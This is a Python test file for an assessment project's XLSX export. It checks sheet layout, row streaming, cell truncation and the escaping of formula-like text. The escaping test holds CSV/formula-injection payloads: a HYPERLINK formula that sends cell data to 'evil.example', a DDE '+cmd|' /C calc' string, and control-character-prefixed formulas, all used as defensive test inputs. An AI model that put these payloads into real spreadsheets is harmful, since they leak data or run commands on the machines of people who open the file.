"""The period's XLSX export: one sheet per level, read back with openpyxl; text never becomes a formula."""

from __future__ import annotations

import io
from collections.abc import Iterator
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pantau.assessments import export
from pantau.assessments.export import AnswerRow, InstitutionRow, PeriodInfo, ProductRow, UnitRow

D = Decimal
PERIOD = PeriodInfo(2022, "ombudsman-2022@1.0", "Opini Pengawasan 2022–2024",
                    (("input", "Input"), ("proses", "Proses"), ("output", "Output"), ("pengaduan", "Pengaduan")))
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def build(period: PeriodInfo = PERIOD, **rows: object) -> tuple[int, bytes]:
    out = io.BytesIO()
    defaults: dict[str, object] = {
        "institutions": [InstitutionRow(1, "Pemerintah Kabupaten Tabalong", "pemkab", "63", D("85.50"), "B", "green",
                                        3, 1)],
        "units": [UnitRow("Pemerintah Kabupaten Tabalong", 10, "Disdukcapil", D("85.50"), "B", "green",
                          (D("20.00"), D("30.00"), D("20.00"), D("15.50")))],
        "products": [ProductRow("Pemerintah Kabupaten Tabalong", "Disdukcapil", 100, "KTP-el", None)],
        "answers": [AnswerRow("Pemerintah Kabupaten Tabalong", "Disdukcapil", "KTP-el", "PR01", "proses", "SP",
                              "Persyaratan terpampang", D(1)),
                    AnswerRow("Pemerintah Kabupaten Tabalong", "Disdukcapil", "", "IN03", "input", "SARPRAS",
                              "Ruang laktasi", None, reason="tidak ada layanan tatap muka")],
    }
    defaults.update(rows)
    n = export.write_period(out, period, **defaults)  # type: ignore[arg-type]
    return n, out.getvalue()


def values(data: bytes, sheet: str) -> list[tuple[object, ...]]:
    wb = load_workbook(io.BytesIO(data))
    return [tuple(row) for row in wb[sheet].iter_rows(values_only=True)]


def test_it_writes_one_sheet_per_level_with_every_score_and_answer() -> None:
    n, data = build()
    assert n == 5
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Catatan", "Instansi", "Unit", "Produk", "Jawaban"]
    inst = values(data, "Instansi")
    assert inst[0][:5] == ("ID", "Instansi", "Jenis", "Provinsi", "Nilai")
    assert inst[1][:9] == (1, "Pemerintah Kabupaten Tabalong", "pemkab", "63", 85.5, "B", "green", 3, 1)
    unit = values(data, "Unit")
    assert unit[0][6:] == ("Poin input", "Poin proses", "Poin output", "Poin pengaduan")
    assert unit[1][6:] == (20, 30, 20, 15.5)
    assert values(data, "Produk")[1] == ("Pemerintah Kabupaten Tabalong", "Disdukcapil", 100, "KTP-el", None)
    answers = values(data, "Jawaban")
    assert answers[1][3:8] == ("PR01", "proses", "SP", "Persyaratan terpampang", 1)
    assert answers[2][2] is None and answers[2][7] is None and answers[2][8] == "tidak ada layanan tatap muka"
    assert "ombudsman-2022@1.0" in " ".join(str(r[0]) for r in values(data, "Catatan"))


def test_formula_like_text_stays_literal_text() -> None:
    _n, data = build(units=[UnitRow(HOSTILE, 1, "+cmd|' /C calc'!A0", None, "", "", ())],
                     answers=[AnswerRow("I", "U", "", "X", "d", "v", "@SUM(1+1)", D(0), note="\x01=1+1")])
    wb = load_workbook(io.BytesIO(data))
    row = next(wb["Unit"].iter_rows(min_row=2, max_row=2))
    assert row[0].value == HOSTILE and row[0].data_type == "s"
    assert row[2].value == "+cmd|' /C calc'!A0" and row[2].data_type == "s"
    answer = next(wb["Jawaban"].iter_rows(min_row=2, max_row=2))
    assert answer[6].value == "@SUM(1+1)" and answer[6].data_type == "s"
    assert answer[10].value == "=1+1" and answer[10].data_type == "s"  # control character cleaned first


def test_a_self_assessment_says_it_is_not_official() -> None:
    _n, data = build(PeriodInfo(2025, "self-assessment@1.0", "Penilaian mandiri", (), official=False),
                     units=[UnitRow("I", 1, "U", D("50.00"), "D", "red")])
    assert "PENILAIAN MANDIRI" in str(values(data, "Catatan")[1][0])


def test_more_dimension_points_than_dimensions_are_refused() -> None:
    with pytest.raises(ValueError, match="dimension points"):
        build(units=[UnitRow("I", 1, "U", None, "", "", (D(1),) * 5)])


def test_it_streams_the_rows_it_is_given_once() -> None:
    seen = []

    def answers() -> Iterator[AnswerRow]:
        for i in range(3000):
            seen.append(i)
            yield AnswerRow("I", "U", f"P{i % 7}", f"IT{i}", "proses", "SP", "teks " * 50, D(i % 2))

    n, data = build(answers=answers())
    assert len(seen) == 3000 and n == 3003
    assert len(values(data, "Jawaban")) == 3001


def test_very_long_text_is_cut_to_the_cell_bound() -> None:
    _n, data = build(products=[ProductRow("I", "U", 1, "x" * 40_000, None)])
    name = values(data, "Produk")[1][3]
    assert isinstance(name, str) and len(name) == export.TEXT_CHARS and name.endswith("…")
